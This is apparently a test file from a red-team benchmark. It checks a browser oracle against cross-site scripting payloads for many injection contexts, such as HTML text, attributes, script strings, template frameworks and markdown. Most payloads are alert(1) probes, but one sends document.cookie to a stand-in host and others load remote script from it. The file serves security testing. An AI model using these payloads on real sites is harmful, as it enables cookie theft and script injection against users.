import { htmlGrammar } from '../../bench/redteam/grammar/html.ts';
import { chromiumOracle } from '../../bench/redteam/oracle/chromium/chromium.ts';
import { htmlRewriters } from '../../bench/redteam/rewrite/html.ts';
import { scriptRewriters } from '../../bench/redteam/rewrite/script.ts';
import { scriptToolRewriters } from '../../bench/redteam/rewrite/script-tools.ts';
import { testOracle, testRewriters } from './laws.ts';

testOracle(chromiumOracle, {
  text: [
    ['<script>alert(1)</script>'],
    ['<svg onload=alert(1)>'],
    ['<a href=javascript:confirm(1)>more</a>'],
    ['<img src=x onerror="location=`//e.test/`+document.cookie">'],
    ['<script src=//e.test/a.js></script>'],
  ],
  title: [['</title><svg onload=alert(1)>']],
  textarea: [['</textarea><img src=x onerror=alert(1)>']],
  'before a script': [['<base href=//e.test/>']],
  'attribute, double quotes': [['" autofocus onfocus=alert(1) x="']],
  'attribute, single quotes': [["' onmouseover='alert(1)"]],
  'attribute, no quotes': [['2 onclick=alert(1)']],
  link: [['javascript:alert(1)']],
  'frame address': [['javascript:alert(1)']],
  'form action': [['javascript:alert(1)']],
  'script string, double quotes': [['";alert(1);"']],
  'script string, single quotes': [["'-alert(1)-'"]],
  'template literal': [['$' + '{alert(1)}']],
  'json in script': [['</script><script>alert(1)</script>']],
  'script number': [['alert(1)']],
  style: [['</style><svg onload=alert(1)>']],
  comment: [['--><svg onload=alert(1)>']],
  'handler attribute': [["'-alert(1)-'"]],
  srcdoc: [['<img src=x onerror=alert(1)>']],
  innerHTML: [['<img src=x onerror=alert(1)>']],
  markdown: [['[a](javascript:alert(1))'], ['<img src=x onerror=alert(1)>']],
  'vue template': [["{{$emit.constructor('alert(1)')()}}"]],
  'alpine expression': [["'+alert(1)+'"]],
});

testRewriters(chromiumOracle, htmlGrammar, [
  ...htmlRewriters,
  ...scriptRewriters,
  ...scriptToolRewriters,
]);
